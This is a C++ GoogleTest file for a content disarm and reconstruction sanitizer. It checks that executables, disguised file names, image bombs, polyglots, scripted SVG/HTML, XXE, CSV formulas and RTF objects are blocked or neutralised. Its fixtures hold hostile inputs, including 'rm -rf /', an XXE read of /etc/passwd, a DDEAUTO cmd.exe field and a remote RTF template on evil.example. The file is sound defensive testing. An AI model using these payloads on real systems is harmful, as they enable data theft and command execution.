// Detection, names, images, text/CSV/HTML/XML and RTF: one test per rule, hostile inputs beside
// the ordinary ones.
#include <gtest/gtest.h>

#include <vips/vips.h>
#include <zlib.h>

#include <filesystem>

#include "cdr/fixtures.h"
#include "support/files.h"

namespace sanso::cdr {
namespace {

using fixtures::kinds;
namespace fs = std::filesystem;

CdrResult run(std::string_view bytes, std::string_view name, const CdrPolicy& policy = {}) { return sanitize(bytes, name, policy); }

TEST(CdrDetect, ExecutablesAreBlockedByContentWhateverTheirName) {
  struct Case {
    std::string bytes;
    const char* type;
  };
  std::string iso(0x8010, '\0');
  iso.replace(0x8001, 5, "CD001");
  const Case cases[] = {
      {"MZ\x90\x00\x03", "pe"},
      {"\x7F" "ELF\x02\x01", "elf"},
      {"\xCF\xFA\xED\xFE\x07", "macho"},
      {std::string("\x4C\x00\x00\x00\x01\x14\x02\x00\x00\x00", 10), "lnk"},
      {"#!/bin/sh\nrm -rf /\n", "script"},
      {"ITSF\x03\x00", "chm"},
      {"\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3 onenote", "onenote"},
      {iso, "iso"},
  };
  for (const auto& c : cases) {
    CdrResult r = run(c.bytes, "請求書.pdf");
    EXPECT_EQ(r.verdict, Verdict::blocked) << c.type;
    EXPECT_EQ(r.reason, "executable") << c.type;
    EXPECT_EQ(r.type, c.type);
  }
}

TEST(CdrDetect, DangerousExtensionsDoubleExtensionsAndDisguisingNamesAreBlocked) {
  for (const char* name : {"invoice.pdf.exe", "run.js", "a.VBS", "x.hta", "y.ps1", "z.bat", "link.lnk", "disk.iso", "note.one", "help.chm", "s.scr"}) {
    CdrResult r = run("plain text", name);
    EXPECT_EQ(r.verdict, Verdict::blocked) << name;
    EXPECT_EQ(r.reason, "executable") << name;
  }
  CdrResult rtl = run("text", "invoice\u202Efdp.exe");
  EXPECT_EQ(rtl.reason, "deceptive-name");
}

TEST(CdrDetect, AnExtensionThatContradictsTheContentIsBlockedUnlessThePolicyMapsIt) {
  std::string pdf = "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj 2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj trailer << /Root 1 0 R >>\n%%EOF\n";
  CdrResult mismatch = run(pdf, "photo.jpg");
  EXPECT_EQ(mismatch.reason, "extension-mismatch");
  CdrResult unknown_ext = run(pdf, "scan.dat");
  EXPECT_NE(unknown_ext.reason, "extension-mismatch") << "an extension that promises nothing contradicts nothing";
  CdrPolicy mapped;
  mapped.extension_map["jpg"] = "pdf";
  EXPECT_NE(run(pdf, "photo.jpg", mapped).reason, "extension-mismatch");
  CdrResult unknown = run(std::string("\x01\x02\x03\x04\x00\x00\xFF\xFE\x00\x01", 10), "data.bin2");
  EXPECT_EQ(unknown.reason, "unknown-type");
}

std::string png_of(int width, int height) {
  VipsImage* img = nullptr;
  EXPECT_EQ(vips_black(&img, width, height, "bands", 3, nullptr), 0);
  void* buf = nullptr;
  size_t len = 0;
  EXPECT_EQ(vips_pngsave_buffer(img, &buf, &len, nullptr), 0);
  std::string out(static_cast<char*>(buf), len);
  g_free(buf);
  g_object_unref(img);
  return out;
}

TEST(CdrImage, TrailingDataAndPolyglotsAreDropped) {
  internal::prepare_images();
  std::string png = png_of(16, 16);
  std::string polyglot = png + fixtures::make_zip({{"payload.js", "alert(1)"}});
  CdrResult r = run(polyglot, "photo.png");
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("trailing_data"));
  EXPECT_EQ(r.output.find("payload"), std::string::npos);
  EXPECT_EQ(r.output.substr(0, 8), "\x89PNG\r\n\x1A\n");
  EXPECT_EQ(run(r.output, "photo.png").verdict, Verdict::clean);
}

TEST(CdrImage, AHugePixelCountIsBlockedBeforeDecoding) {
  // A PNG header claiming 100,000 × 100,000 pixels, with a valid CRC and almost no data.
  std::string ihdr = "IHDR";
  auto be32 = [](unsigned v) { return std::string{static_cast<char>(v >> 24), static_cast<char>(v >> 16), static_cast<char>(v >> 8), static_cast<char>(v)}; };
  ihdr += be32(100000) + be32(100000) + std::string("\x08\x02\x00\x00\x00", 5);
  unsigned long crc = crc32(0, reinterpret_cast<const Bytef*>(ihdr.data()), static_cast<uInt>(ihdr.size()));
  std::string png = std::string("\x89PNG\r\n\x1A\n", 8) + be32(13) + ihdr + be32(static_cast<unsigned>(crc));
  std::string row(16, '\0');
  std::string idat = "IDAT" + fixtures::deflate_raw(row);
  png += be32(static_cast<unsigned>(idat.size() - 4)) + idat + be32(static_cast<unsigned>(crc32(0, reinterpret_cast<const Bytef*>(idat.data()), static_cast<uInt>(idat.size()))));
  std::string iend = "IEND";
  png += be32(0) + iend + be32(static_cast<unsigned>(crc32(0, reinterpret_cast<const Bytef*>(iend.data()), 4)));
  CdrResult r = run(png, "bomb.png");
  EXPECT_EQ(r.verdict, Verdict::blocked);
  EXPECT_EQ(r.reason, "limit");
}

TEST(CdrImage, AChunkLongerThanTheFileIsMalformedNotA2GiBAllocation) {
  // Found by fuzzing: libpng allocates a chunk's declared length before reading it.
  std::string png = sanso::testing::read_file(fs::path(SANSO_SOURCE_DIR) / "fuzz/cdr/corpus/oom-png-chunk-length.png");
  ASSERT_FALSE(png.empty());
  CdrResult r = run(png, "a.png");
  EXPECT_EQ(r.verdict, Verdict::blocked);
  EXPECT_EQ(r.reason, "malformed");
}

TEST(CdrImage, BmpIsRebuiltAsPngAndGarbageIsMalformed) {
  // A 2 × 2, 24-bit BMP, bottom-up rows padded to four bytes, with 6 bytes appended after it.
  fixtures::Bytes b;
  b.raw("BM").u32(54 + 16).u32(0).u32(54).u32(40).u32(2).u32(2).u16(1).u16(24).u32(0).u32(16).u32(2835).u32(2835).u32(0).u32(0);
  b.raw(std::string("\x00\x00\xFF\x00\xFF\x00\x00\x00", 8)).raw(std::string("\xFF\x00\x00\xFF\xFF\xFF\x00\x00", 8));
  CdrResult r = run(b.s, "scan.bmp");
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_EQ(r.output_name, "scan.png");
  EXPECT_EQ(kinds(r), std::set<std::string>{"image_converted"});
  VipsImage* png = vips_image_new_from_buffer(r.output.data(), r.output.size(), "", nullptr);
  ASSERT_NE(png, nullptr);
  EXPECT_EQ(vips_image_get_width(png), 2);
  EXPECT_EQ(vips_image_get_height(png), 2);
  double top_left[4] = {};
  double* pixel = nullptr;
  int bands = 0;
  ASSERT_EQ(vips_getpoint(png, &pixel, &bands, 0, 0, nullptr), 0);
  for (int i = 0; i < bands && i < 4; ++i) top_left[i] = pixel[i];
  g_free(pixel);
  g_object_unref(png);
  EXPECT_EQ(top_left[0], 0);  // the top row is stored last: blue, then white
  EXPECT_EQ(top_left[2], 255);
  EXPECT_EQ(run(b.s, "scan.bmp").output, r.output);  // the same bytes every time

  // The header's size is judged before ImageMagick reads a pixel: 100,000 × 100,000.
  fixtures::Bytes bomb;
  bomb.raw("BM").u32(54 + 16).u32(0).u32(54).u32(40).u32(100000).u32(100000).u16(1).u16(24).u32(0).u32(16).u32(2835).u32(2835).u32(0).u32(0);
  bomb.raw(std::string(16, '\0'));
  EXPECT_EQ(run(bomb.s, "bomb.bmp").reason, "limit");
  fixtures::Bytes truncated;
  truncated.raw("BM").u32(54 + 4000).u32(0).u32(54).u32(40).u32(40).u32(40).u16(1).u16(24).u32(0).u32(4000).u32(0).u32(0).u32(0).u32(0);
  EXPECT_EQ(run(truncated.s, "cut.bmp").reason, "malformed");

  CdrResult broken = run("\xFF\xD8\xFF\xE0 not really a jpeg", "a.jpg");
  EXPECT_EQ(broken.verdict, Verdict::blocked);
  EXPECT_EQ(broken.reason, "malformed");
}

TEST(CdrImage, SvgWithScriptOrExternalReferencesIsBlockedOtherwiseRendered) {
  internal::prepare_images();
  EXPECT_EQ(run("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "a.svg").reason, "active-content");
  EXPECT_EQ(run("<svg xmlns='http://www.w3.org/2000/svg'><rect onload='x()' width='1' height='1'/></svg>", "a.svg").reason, "active-content");
  EXPECT_EQ(run("<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='file:///etc/passwd'/></svg>", "a.svg").reason,
            "active-content");
  CdrResult ok = run("<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'><rect width='10' height='10' fill='blue'/></svg>", "logo.svg");
  ASSERT_EQ(ok.verdict, Verdict::sanitized) << ok.message;
  EXPECT_EQ(ok.output_name, "logo.png");
}

TEST(CdrText, CsvFormulaCellsAreNeutralisedAndNumbersKept) {
  std::string csv = "名前,式,値,引用\r\n山田,=HYPERLINK(\"http://evil\"),-12.5,\"=1+1\"\r\n田中,@SUM(A1),+81,\"普通\"\r\n";
  CdrResult r = run(csv, "一覧.csv");
  ASSERT_EQ(r.verdict, Verdict::sanitized);
  EXPECT_EQ(r.output, "名前,式,値,引用\r\n山田,'=HYPERLINK(\"http://evil\"),-12.5,\"'=1+1\"\r\n田中,'@SUM(A1),+81,\"普通\"\r\n");
  EXPECT_TRUE(kinds(r).count("formula_injection"));
  CdrPolicy bom;
  bom.csv_bom = true;
  EXPECT_EQ(run("a,b\n", "x.csv", bom).output, "\xEF\xBB\xBF" "a,b\n");
  EXPECT_EQ(run("a\t=cmd\n", "x.tsv").output, "a\t'=cmd\n");
}

TEST(CdrText, JapaneseEncodingsBecomeUtf8AndNulsGo) {
  CdrResult sjis = run("\x8E\x73\x96\xF0\x8F\x8A\x0A", "memo.txt");  // 市役所 in CP932
  ASSERT_EQ(sjis.verdict, Verdict::sanitized);
  EXPECT_EQ(sjis.output, "市役所\n");
  EXPECT_TRUE(kinds(sjis).count("charset_converted"));
  CdrResult plain = run("そのまま\n", "a.txt");
  EXPECT_EQ(plain.verdict, Verdict::clean);
  EXPECT_EQ(plain.output, "そのまま\n");
}

TEST(CdrText, XmlWithEntitiesAndHtmlWithScriptAreBlockedPlainHtmlBecomesText) {
  EXPECT_EQ(run("<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "a.xml").reason, "active-content");
  EXPECT_EQ(run("<html><body><script>steal()</script></body></html>", "a.html").reason, "active-content");
  EXPECT_EQ(run("<html><body><img src=x onerror=steal()></body></html>", "a.html").reason, "active-content");
  EXPECT_EQ(run("<html><body><form action='http://phish'><input></form></body></html>", "a.html").reason, "active-content");
  CdrResult ok = run("<html><body><h1>お知らせ</h1><p>本文</p></body></html>", "notice.html");
  ASSERT_EQ(ok.verdict, Verdict::sanitized) << ok.message;
  EXPECT_EQ(ok.output_name, "notice.txt");
  EXPECT_NE(ok.output.find("お知らせ"), std::string::npos);
  EXPECT_EQ(ok.output.find('<'), std::string::npos);
}

TEST(CdrRtf, ObjectsKeepTheirPictureDangerousFieldsKeepTheirTextTemplatesGo) {
  std::string rtf =
      "{\\rtf1\\ansi{\\*\\template http://evil.example/t.dot}"
      "{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}{\\result {\\pict PICTURE}}}"
      "{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}{\\fldrslt 表示}}"
      "{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}"
      "{\\*\\objdata 01050000}"
      "{\\pict\\bin4 {}}}end}"
      "}";
  CdrResult r = run(rtf, "a.rtf");
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  auto k = kinds(r);
  EXPECT_TRUE(k.count("rtf_object"));
  EXPECT_TRUE(k.count("dde_field"));
  EXPECT_TRUE(k.count("external_template"));
  for (const char* gone : {"objdata", "objclass", "DDEAUTO", "evil.example", "\\object"}) EXPECT_EQ(r.output.find(gone), std::string::npos) << gone;
  EXPECT_NE(r.output.find("PICTURE"), std::string::npos);
  EXPECT_NE(r.output.find("表示"), std::string::npos);
  EXPECT_NE(r.output.find("fldinst PAGE"), std::string::npos);
  EXPECT_NE(r.output.find("\\bin4 {}}"), std::string::npos) << "binary data with braces is copied as data";
  EXPECT_EQ(run(r.output, "a.rtf").verdict, Verdict::clean);
  CdrResult open = run("{\\rtf1 {\\b unclosed", "b.rtf");
  EXPECT_EQ(open.verdict, Verdict::blocked);
  EXPECT_EQ(open.reason, "malformed");
}

TEST(CdrResultFormat, EncodedResultsRoundTripAndTruncationIsAnError) {
  CdrResult r = run("a,=b\n", "x.csv");
  std::string encoded = encode_result(r);
  auto back = decode_result(encoded);
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->output, r.output);
  EXPECT_EQ(back->findings.size(), r.findings.size());
  EXPECT_EQ(back->verdict, r.verdict);
  EXPECT_FALSE(decode_result(encoded.substr(0, encoded.size() - 1)).has_value());
  EXPECT_FALSE(decode_result("abc").has_value());
  EXPECT_EQ(describe("vba_macro", "ja"), "VBA マクロ");
  EXPECT_EQ(describe("vba_macro", "en"), "VBA macro project");
}

}  // namespace
}  // namespace sanso::cdr
